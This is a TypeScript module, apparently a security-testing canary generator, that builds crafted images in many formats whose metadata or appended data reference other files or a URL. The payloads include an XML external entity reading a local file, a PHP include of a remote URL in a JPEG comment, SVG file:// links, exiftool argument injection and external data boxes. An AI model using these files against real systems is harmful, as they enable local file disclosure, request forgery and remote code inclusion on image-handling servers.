import sharp from 'sharp'
import { box, number32, replaceBoxes } from './boxes.ts'
import type { Canary } from './canary.ts'

/** Makes images whose metadata, profile or samples reference other files. */
export async function images({ image, url, text }: Canary): Promise<Record<string, Buffer>> {
  const plain = sharp({ create: { width: 64, height: 64, channels: 3, background: '#08f' } })
  const [jpeg, png, gif, avif] = await Promise.all([
    ...[plain.clone().jpeg().toBuffer(), plain.clone().png().toBuffer(), plain.clone().gif().toBuffer()],
    plain.clone().avif().toBuffer(),
  ])
  if (jpeg === undefined || png === undefined || gif === undefined || avif === undefined)
    throw new Error('no images')
  const segment = (marker: number, content: string) => {
    const head = Buffer.from([0xff, marker, (content.length + 2) >> 8, (content.length + 2) & 255])
    return Buffer.concat([jpeg.subarray(0, 2), head, Buffer.from(content, 'latin1'), jpeg.subarray(2)])
  }
  const packet = `<?xpacket begin=""?><!DOCTYPE x [<!ENTITY e SYSTEM "file://${text}">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:source="&e;"/></rdf:RDF></x:xmpmeta>`
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${image}"/></svg>`
  return {
    'a JPEG with XMP that names a file': segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${packet}`),
    'a JPEG with a comment that is a script': segment(0xfe, `<?php include("${url}"); ?>`),
    'a JPEG with a linked color profile': segment(0xe2, `ICC_PROFILE\0\x01\x01${url}/profile.icc`),
    'a JPEG with a linked preview': segment(0xe2, `MPF\0${image}`),
    'a JPEG that ends as SVG': Buffer.concat([jpeg, Buffer.from(drawing)]),
    'a JPEG with a file of exiftool arguments': segment(0xfe, `-o ${image}\n-tagsfromfile ${image}\n`),
    'a PNG with a text of entities': Buffer.concat([
      png.subarray(0, 33),
      pngText(`XML:com.adobe.xmp\0${packet}`),
      png.subarray(33),
    ]),
    'a PNG with a profile of a path': Buffer.concat([
      png.subarray(0, 33),
      pngText(`profile\0@${text}`),
      png.subarray(33),
    ]),
    'a GIF that is SVG as well': Buffer.concat([
      gif.subarray(0, -1),
      Buffer.from(`!\xfe\x7f`, 'latin1'),
      Buffer.from(drawing),
      Buffer.from('\0;'),
    ]),
    'an AVIF of external data': replaceBoxes(avif, 'meta', (body) =>
      box('meta', body, box('dinf', box('dref', number32(0, 1), box('url ', number32(0), `${url}/a\0`)))),
    ),
    'a HEIC of external data': Buffer.concat([
      box('ftyp', 'heic', number32(0), 'mif1heic'),
      box(
        'meta',
        number32(0),
        box('dinf', box('dref', number32(0, 1), box('url ', number32(0), `file://${image}\0`))),
      ),
    ]),
    'a TIFF of a document': Buffer.concat([
      Buffer.from('II*\0\x08\0\0\0\0\0\0\0\0\0', 'latin1'),
      Buffer.from(image),
    ]),
    'a WebP of XMP': Buffer.concat([
      Buffer.from('RIFF\xff\xff\0\0WEBPVP8X\x0a\0\0\0\x04\0\0\0\x3f\0\0\x3f\0\0XMP ', 'latin1'),
      number32(0),
      Buffer.from(packet),
    ]),
    'an icon of a path': Buffer.concat([Buffer.from('\0\0\x01\0\x01\0', 'latin1'), Buffer.from(image)]),
    'a libvips image': Buffer.concat([
      Buffer.from('08f2a6b6', 'hex'),
      Buffer.alloc(60),
      Buffer.from(drawing),
    ]),
    'a JPEG 2000 with a link': Buffer.concat([
      box('jP  ', '\r\n\x87\n'),
      box('ftyp', 'jp2 ', number32(0), 'jp2 '),
      box('url ', number32(0), `${url}/a\0`),
    ]),
  }
}

/** Builds a PNG text chunk. The checksum is wrong, but readers of text chunks ignore it. */
function pngText(content: string): Buffer {
  return Buffer.concat([number32(content.length), Buffer.from(`tEXt${content}`, 'latin1'), number32(0)])
}
